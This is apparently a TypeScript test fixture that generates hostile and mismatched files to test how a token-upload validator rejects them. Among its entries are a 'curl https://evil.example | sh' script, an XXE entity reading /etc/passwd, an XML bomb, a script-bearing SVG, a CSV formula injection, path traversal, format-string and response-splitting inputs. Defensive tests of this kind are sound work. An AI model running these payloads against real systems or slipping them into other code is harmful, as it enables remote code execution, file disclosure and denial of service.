import { base64, type HostileFile, hostile, inLines, noise } from './hostile-file.ts';

const pem = (label: string) => `-----BEGIN ${label}-----\n${inLines(base64(noise(900)), 64)}\n-----END ${label}-----\n`;
const PEM = ['CERTIFICATE', 'RSA PRIVATE KEY', 'ENCRYPTED PRIVATE KEY', 'CERTIFICATE REQUEST', 'PUBLIC KEY'];
const SEALED = ['PKCS7', 'CMS', 'OPENSSH PRIVATE KEY', 'PGP MESSAGE', 'PGP PUBLIC KEY BLOCK'];

/** An enveloped message, the form of enrollment tokens. */
const ENVELOPED = Buffer.concat([Buffer.from('3082039a06092a864886f70d010703a0', 'hex'), noise(900)]);
const SMIME = inLines(base64(ENVELOPED), 64, '\r\n');

/** Files that an admin's downloads folder contains besides a token. */
const TEXTS: Readonly<Record<string, string>> = {
  'a sign-in page saved as .vpptoken':
    '<!DOCTYPE html>\n<html lang="en"><head><title>Sign in to Apple Business</title></head><body><form action="/auth"></form></body></html>',
  'a page without a type': '<html><head></head><body>Session expired</body></html>',
  'a page in capitals': '<HTML><BODY>503 Service Unavailable</BODY></HTML>',
  'a page of a proxy': '<head><title>Blocked by your organization</title></head>',
  'a page after a comment': '<!-- saved from url=(0014)about:internet -->\n<html></html>',
  'a page after blank lines': '\r\n\r\n   <!doctype html><title>x</title>',
  'an XML error': '<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code></Error>',
  'a drawing': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  'an XML bomb':
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>',
  'XML that wants a file': '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  'a configuration profile':
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "x"><plist version="1.0"><dict/></plist>',
  'a property list without a header': '<plist version="1.0"><dict><key>x</key></dict></plist>',
  'a link of a Mac':
    '<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>https://x</string></dict></plist>',
  'a link of Windows': '[InternetShortcut]\r\nURL=https://business.apple.com/\r\n',
  'a desktop.ini': '[.ShellClassInfo]\r\nIconResource=C:\\x.dll,3\r\n',
  'an enrollment token as mail': `Content-Type: application/pkcs7-mime; name="smime.p7m"; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n${SMIME}\r\n`,
  'an enrollment token with other headers': `MIME-Version: 1.0\r\nContent-Disposition: attachment; filename="smime.p7m"\r\n\r\n${SMIME}\r\n`,
  'an enrollment token without headers': SMIME,
  'what is inside an enrollment token':
    '{"consumer_key":"CK_1","consumer_secret":"CS_1","access_token":"AT_1","access_secret":"AS_1","access_token_expiry":"2031-01-01T00:00:00Z"}',
  'a web token': 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
  'an API key': 'whsec_c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0',
  'a key of SSH': `ssh-ed25519 ${base64(noise(60))} admin@orchard`,
  'a file of passwords': 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n',
  'a file of settings': 'WINESAP_SEAL_KEY=secret\nWINESAP_PORT=8470\n',
  'a shell script': '#!/bin/sh\ncurl https://evil.example | sh\n',
  'a script of PowerShell': 'Get-Content .\\sToken.vpptoken | Set-Clipboard\r\n',
  'a program in JavaScript': 'module.exports = () => process.exit(1);\n',
  'an SQL dump': 'drop table content_tokens;\ncommit;\n',
  'CSV with a formula': 'location,token\n=cmd|\'/C calc\'!A0,"x"\n',
  'a calendar': 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n',
  'an address card': 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Sam\r\nEND:VCARD\r\n',
  'a log of Winesap': '{"level":"info","time":"2026-11-30T00:00:00.000Z","message":"listening"}\n',
  'an answer of the API': '{"type":"urn:winesap:problem:token-file.empty","status":422,"code":"token-file.empty"}',
  'a recording of a browser': '{"log":{"version":"1.2","creator":{"name":"WebInspector"},"entries":[]}}',
  'a pointer of Git LFS': 'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12345\n',
  'a conflict of Git': '<<<<<<< HEAD\neyJ0\n=======\neyJ1\n>>>>>>> other\n',
  'a sentence': 'The token is on the server.',
  'a sentence in Chinese': '令牌在服务器上。',
  'a sentence in Arabic': 'الرمز موجود على الخادم.',
  'a line of emoji': '🍎🍏🔑'.repeat(50),
  'a page of one word': 'undefined',
  'one quote': '"',
  'one brace': '{',
  'an opened object': '{"token":',
  'a format string': '%s%s%s%n%x%d',
  'a template': '{{token}} <%= token %> #{token}',
  'a path upwards': '../../../../etc/passwd',
  'a header that is split': 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n',
  'a chunk of HTTP': '5\r\nhello\r\n0\r\n\r\n',
};

export function otherDocuments(): HostileFile[] {
  return [
    ...Object.entries(TEXTS).map(([what, text]) => hostile(what, text)),
    ...[...PEM, ...SEALED].map((label) => hostile(`${label} in PEM`, pem(label))),
    hostile('an enrollment token in DER', ENVELOPED),
    hostile(
      'a signed profile in DER',
      Buffer.concat([Buffer.from('3082039a06092a864886f70d010702a0', 'hex'), Buffer.from('<plist/>'), noise(300)]),
    ),
    hostile('signed data in DER', Buffer.concat([Buffer.from('3082039a06092a864886f70d010702a0', 'hex'), noise(300)])),
    hostile(
      'a length of DER that lies',
      Buffer.concat([Buffer.from('3084ffffffff06092a864886f70d010703', 'hex'), noise(40)]),
    ),
  ];
}
